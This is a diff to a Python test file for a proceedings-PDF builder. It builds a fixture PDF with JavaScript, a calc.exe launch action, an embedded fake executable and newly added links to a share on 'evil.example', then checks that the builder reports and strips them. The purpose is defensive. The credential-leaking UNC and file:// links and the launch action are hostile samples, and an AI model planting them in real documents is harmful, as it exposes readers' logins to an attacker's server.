@@ -143,11 +143,12 @@ def _with_active_content(path: Path) -> None:
         pdf.Root.OpenAction = pdf.make_indirect(script)
         launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
         link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/paper"))
+        # Links to other files, which Windows readers open on a network share, sending it the login.
+        share = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0]))
+        file = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://evil.example/share/y.pdf"))
         pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([
             pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
-                                                 Rect=[0, 0, 10, 10], A=launch)),
-            pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
-                                                 Rect=[20, 0, 30, 10], A=link))]))
+                                                 Rect=[0, 0, 10, 10], A=action)) for action in (launch, link, share, file)]))
         pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")
         pdf.save(path)
 
@@ -155,18 +156,20 @@ def _with_active_content(path: Path) -> None:
 def test_active_content_is_reported_and_left_out_of_the_volume(project, tmp_path):
     _with_active_content(project / "papers" / "pdf" / "paper-one.pdf")
     volume, diags = load(Project(project))
-    assert volume is not None and volume.pdfs["pdf/paper-one.pdf"].active == ("JavaScript", "embedded files", "launch actions")
+    assert volume is not None and volume.pdfs["pdf/paper-one.pdf"].active == (
+        "JavaScript", "embedded files", "launch actions", "links to other files")
     assert volume.pdfs["pdf/paper-two.pdf"].active == ()
     message = next(str(d) for d in diags.items if "paper-one.pdf holds" in str(d))
-    assert message.startswith("papers/accepted.yml:") and "JavaScript and embedded files and launch actions" in message
+    assert message.startswith("papers/accepted.yml:") and "embedded files and launch actions and links to other files" in message
     target = tmp_path / "volume.pdf"
     write_volume_pdf(volume, project / "papers", [], target)
     with pikepdf.open(target) as written:
         uris = [str(annotation.A.URI) for page in written.pages for annotation in page.obj.get("/Annots", [])]
         plain = io.BytesIO()
         written.save(plain, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
-    assert not any(token in plain.getvalue() for token in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"MZ payload"))
-    assert "https://example.org/paper" in uris
+    assert not any(token in plain.getvalue() for token in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"MZ payload",
+                                                           b"/GoToR", b"evil.example"))
+    assert uris == ["https://example.org/paper"]
 
 
 def test_revision_and_erratum_files_go_through_the_pdf_checks(project):
@@ -177,4 +180,4 @@ def test_revision_and_erratum_files_go_through_the_pdf_checks(project):
     volume, diags = load(Project(project))
     errors = [str(d) for d in diags.items if d.severity.value == "error"]
     assert volume is None and len(errors) == 1, errors
-    assert re.match(r"papers/accepted\.yml:\d+: error: papers\[0\]\.erratum: papers/accepted\.yml: not a PDF file", errors[0])
+    assert re.match(r"papers/accepted\.yml:\d+: error: papers\[0\]\.erratum \(paper-one\): papers/accepted\.yml: not a PDF file", errors[0])
